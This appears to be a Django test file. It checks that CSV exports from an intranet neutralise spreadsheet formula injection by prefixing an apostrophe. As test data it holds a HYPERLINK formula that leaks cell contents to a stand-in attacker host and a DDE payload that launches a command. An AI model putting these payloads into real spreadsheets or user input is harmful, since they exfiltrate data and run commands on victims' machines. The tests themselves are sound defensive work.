"""Every CSV export writes text a spreadsheet would run as a formula with a leading apostrophe.

Titles, usernames and search queries are typed by anyone; an admin opening the export in
Excel must not have ``=HYPERLINK(...)`` (or a DDE command) run on their machine.
"""

import csv
import datetime
import io

import pytest
from django.utils import timezone

from intranet.access.models import AuditEvent
from intranet.common.csv import neutralise
from intranet.imports.reporting import ImportReport, ItemResult
from search.models import SearchQueryDay
from tests.clients import signed_in
from tests.factories import OrganisationFactory, UserFactory, add_to_group

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def hf_admin():
    hf = OrganisationFactory(slug="hf", short_name="H&F")
    admin = UserFactory(username="hf.admin", organisations=[hf])
    add_to_group(admin, hf, "admins")
    return admin


def test_an_audit_title_starting_with_a_formula_is_exported_as_text(hf_admin):
    hf = hf_admin.memberships.get().organisation
    AuditEvent.objects.create(
        username="hf.staff",
        action=AuditEvent.Action.VIEW,
        organisation=hf,
        object_type="home.ContentPage",
        object_id="1",
        object_title=HYPERLINK,
    )

    response = signed_in(hf_admin).get("/admin/audit/?export=csv")

    header, row = rows_of(response.content.decode())
    assert row[header.index("object_title")] == "'" + HYPERLINK
    assert row[header.index("username")] == "hf.staff"


def test_a_search_query_starting_with_a_formula_is_exported_as_text(hf_admin):
    hf = hf_admin.memberships.get().organisation
    SearchQueryDay.objects.create(
        day=timezone.localdate() - datetime.timedelta(days=1),
        organisation=hf,
        query="@SUM(1+1)*cmd|' /C calc'!A0",
        searches=3,
        zero_results=3,
        results_total=0,
    )

    response = signed_in(hf_admin).get("/admin/search-queries/", {"export": "csv"})

    assert rows_of(response.content.decode())[1][:3] == ["hf", "'@SUM(1+1)*cmd|' /C calc'!A0", "3"]


def test_an_import_report_neutralises_formulas_in_what_the_source_said(tmp_path):
    report = ImportReport(importer="documents")
    report.add(ItemResult(source_id="+44 20 7946 0000", kind="document", outcome="failed"))
    report.add(ItemResult(source_id="leave.pdf", kind="document", outcome="failed", reason="-1"))
    path = tmp_path / "report.csv"

    report.write_csv(path)

    assert rows_of(path.read_text())[1:] == [
        ["'+44 20 7946 0000", "document", "failed", "", ""],
        ["leave.pdf", "document", "failed", "'-1", ""],
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_character_a_spreadsheet_reads_as_a_formula_start_is_neutralised(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Annual leave", "a=b", "", 3, -2, 1.5, None])
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert neutralise(value) == value
